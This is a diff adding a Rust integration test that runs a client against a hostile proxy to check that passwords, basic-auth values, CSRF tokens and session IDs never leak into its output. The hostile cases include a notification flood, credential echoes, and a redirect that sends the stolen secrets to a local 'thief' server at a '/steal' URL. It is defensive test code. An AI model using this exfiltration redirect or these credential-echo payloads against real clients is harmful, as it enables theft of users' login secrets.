@@ -462,3 +462,109 @@ async fn control_sequences_from_the_target_reach_the_console_escaped() {
     target.shutdown().await;
     server.shutdown().await;
 }
+
+/// The attacks of issue 12's "done when", each echoing the credentials it received in what it
+/// sends: a flood of notifications, a `402::unknown client` on every connect, an error page, a
+/// redirect to another origin whose URL carries them. No run shows the password, its base64
+/// form, the CSRF token or the JSESSIONID value in any output.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_attack_gets_a_secret_into_any_output() {
+    use fault_support::proxy::batch;
+    use serde_json::{Value, json};
+    let server = reference().await;
+    let (thief, _) = recording(&server.base_url(), pass_through()).await;
+    for attack in ["flood", "402-loop", "echo", "redirect"] {
+        let session: Arc<Mutex<Vec<String>>> = Arc::default();
+        let s = Arc::clone(&session);
+        let thief_url = thief.base_url();
+        let hostile = hook(move |ctx: Ctx, req: ProxyRequest| {
+            let s = Arc::clone(&s);
+            let thief_url = thief_url.clone();
+            async move {
+                s.lock().unwrap().extend(session_secrets(&req.headers));
+                let echoed = echo(&req.headers);
+                let connect = req.has_channel("/meta/connect");
+                match attack {
+                    "flood" if connect => {
+                        let fwd = ctx.upstream.forward(&req).await;
+                        let mut messages = batch(&fwd.json());
+                        messages.extend((0..5_000).map(|i| {
+                            json!({"channel": "/v2/me/chats", "data": {
+                                "messageType": "ChatStateChangeMessage", "notificationType": "StatusChange",
+                                "statusMessage": echoed,
+                                "chat": {"id": format!("FLOOD{i:011}"), "state": echoed}}})
+                        }));
+                        fwd.with_json(&Value::Array(messages)).into_response()
+                    }
+                    "402-loop" if connect => {
+                        let id = batch(&req.json())
+                            .first()
+                            .and_then(|m| m.get("id").cloned())
+                            .unwrap_or(Value::Null);
+                        let answer = json!([{"channel": "/meta/connect", "id": id, "successful": false,
+                            "error": format!("402::unknown client {echoed}"),
+                            "advice": {"reconnect": "handshake", "interval": 0}}]);
+                        respond(200, "application/json", answer.to_string())
+                    }
+                    "echo" if req.operation().is_some() => {
+                        respond(500, "text/html", format!("<h1>500</h1><pre>{echoed}</pre>"))
+                    }
+                    "redirect" if req.operation().is_some() => {
+                        let token = session_secrets(&req.headers).join("&t=");
+                        redirect_to(format!(
+                            "{thief_url}/steal?t={token}&b={BASIC}&p={PASSWORD}"
+                        ))
+                    }
+                    _ => ctx.upstream.forward(&req).await.into_response(),
+                }
+            }
+        });
+        let target = Proxy::start(&server.base_url(), hostile).await;
+        let dir = tempfile::tempdir().unwrap();
+        let out = run(
+            dir.path(),
+            vec![
+                "--target".into(),
+                target.base_url(),
+                "--tags".into(),
+                ONE_SCENARIO.into(),
+                "--notification-timeout".into(),
+                "1s".into(),
+            ],
+        )
+        .await;
+        target.shutdown().await;
+        assert!(
+            matches!(out.code, Some(1 | 2)),
+            "{attack}: exit {:?}\n{}",
+            out.code,
+            out.stdout
+        );
+        assert!(
+            out.everything.contains("<testsuites"),
+            "{attack}: the JUnit file is written"
+        );
+        if attack != "flood" {
+            // The echo reached the outputs, masked (the flood is cut off before it is shown).
+            assert!(
+                out.everything.contains("[redacted]"),
+                "{attack}: {}",
+                out.everything
+            );
+        }
+        let session = session.lock().unwrap().clone();
+        assert!(!session.is_empty(), "{attack}: the target issued a session");
+        for secret in [PASSWORD, BASIC]
+            .into_iter()
+            .chain(session.iter().map(String::as_str))
+        {
+            assert!(
+                !out.everything.contains(secret),
+                "{attack}: `{secret}` in the output:\n{}",
+                out.everything
+            );
+        }
+    }
+    thief.shutdown().await;
+    server.shutdown().await;
+}
